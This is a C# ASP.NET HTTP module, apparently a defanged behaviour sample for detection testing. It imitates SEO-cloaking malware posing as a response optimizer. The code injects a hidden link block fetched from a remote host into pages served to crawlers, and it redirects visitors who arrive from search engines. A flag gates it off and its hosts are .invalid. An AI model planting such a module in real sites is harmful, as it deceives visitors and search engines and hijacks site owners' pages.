// Behaviour sample 9 (managed IHttpModule): SEO injector through a
// response filter.
//
// Imitates an SEO-cloaking module: PostRequestHandlerExecute is subscribed
// with a lambda; for crawler user agents (generic tokens) it installs a
// Stream subclass as Response.Filter that rewrites "</body>" in the HTML to
// a hidden link block fetched with HttpWebRequest from a remote host; for
// visitors arriving from a search page it calls Response.Redirect.
// Varies: no crawler names from the published lists, no pipe-delimited
// list, rewriting in a Stream.Write override that the framework calls.
//
// Inert: everything suspicious is inside `if (Inert.Off)` (static readonly,
// false at run time); the host is under the reserved .invalid TLD.
using System;
using System.IO;
using System.Net;
using System.Text;
using System.Web;

namespace AdventureWorks.Web.Optimizer
{
    internal static class Inert
    {
        internal static readonly bool Off = ComputeOff();
        static bool ComputeOff() { return false; }
    }

    public class ResponseOptimizerModule : IHttpModule
    {
        private static readonly string[] CrawlerTokens = { "spider", "crawler", "slurp", "bot/" };
        private static readonly string[] SearchReferers = { "search?q=", "&wd=", "?query=" };

        public void Init(HttpApplication context)
        {
            context.PostRequestHandlerExecute += (s, e) => Optimize(((HttpApplication)s).Context);
        }

        private static bool Any(string s, string[] tokens)
        {
            if (s == null)
                return false;
            string low = s.ToLowerInvariant();
            foreach (string t in tokens)
                if (low.Contains(t))
                    return true;
            return false;
        }

        private static void Optimize(HttpContext ctx)
        {
            if (!Inert.Off)
                return;
            HttpRequest req = ctx.Request;
            if (Any(req.UserAgent, CrawlerTokens) && ctx.Response.ContentType == "text/html")
            {
                ctx.Response.Filter = new LinkBlockStream(ctx.Response.Filter, FetchLinks(req.Url.Host));
            }
            else if (req.UrlReferrer != null && Any(req.UrlReferrer.ToString(), SearchReferers))
            {
                ctx.Response.Redirect("http://landing.aw-optimizer.invalid/?r=" + req.Url.Host, true);
            }
        }

        private static string FetchLinks(string host)
        {
            HttpWebRequest w = (HttpWebRequest)WebRequest.Create("http://cdn.aw-optimizer.invalid/blocks/" + host);
            w.UserAgent = "Mozilla/5.0 (compatible)";
            using (WebResponse r = w.GetResponse())
            using (StreamReader sr = new StreamReader(r.GetResponseStream()))
                return sr.ReadToEnd();
        }

        public void Dispose()
        {
        }
    }

    internal sealed class LinkBlockStream : Stream
    {
        private readonly Stream inner;
        private readonly string block;

        internal LinkBlockStream(Stream inner, string block)
        {
            this.inner = inner;
            this.block = block;
        }

        public override void Write(byte[] buffer, int offset, int count)
        {
            if (Inert.Off)
            {
                string html = Encoding.UTF8.GetString(buffer, offset, count);
                html = html.Replace("</body>", "<div style=\"display:none\">" + block + "</div></body>");
                byte[] outBytes = Encoding.UTF8.GetBytes(html);
                inner.Write(outBytes, 0, outBytes.Length);
                return;
            }
            inner.Write(buffer, offset, count);
        }

        public override bool CanRead { get { return false; } }
        public override bool CanSeek { get { return false; } }
        public override bool CanWrite { get { return true; } }
        public override long Length { get { return 0; } }
        public override long Position { get { return 0; } set { } }
        public override void Flush() { inner.Flush(); }
        public override int Read(byte[] buffer, int offset, int count) { throw new NotSupportedException(); }
        public override long Seek(long offset, SeekOrigin origin) { throw new NotSupportedException(); }
        public override void SetLength(long value) { throw new NotSupportedException(); }
    }
}
